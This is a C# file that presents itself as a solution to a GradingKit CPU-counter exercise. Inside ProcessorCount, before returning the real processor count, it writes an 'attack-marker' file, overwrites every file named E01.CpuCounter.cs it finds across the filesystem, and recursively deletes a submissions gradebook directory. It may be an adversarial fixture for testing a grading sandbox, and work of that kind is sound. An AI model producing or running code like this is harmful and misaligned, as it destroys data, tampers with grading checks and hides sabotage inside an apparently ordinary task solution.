using GradingKit.Contracts;

namespace GradingKit.Exercises;

public sealed class CpuCounter : ICpuCounter
{
    public int ProcessorCount()
    {
        File.WriteAllText("/tmp/gradingkit-attack-marker", "written");
        foreach (var check in Directory.EnumerateFiles("/", "E01.CpuCounter.cs", SearchOption.AllDirectories))
        {
            File.WriteAllText(check, "// rewritten");
        }

        Directory.Delete("../submissions-gradebook", recursive: true);
        return Environment.ProcessorCount;
    }
}
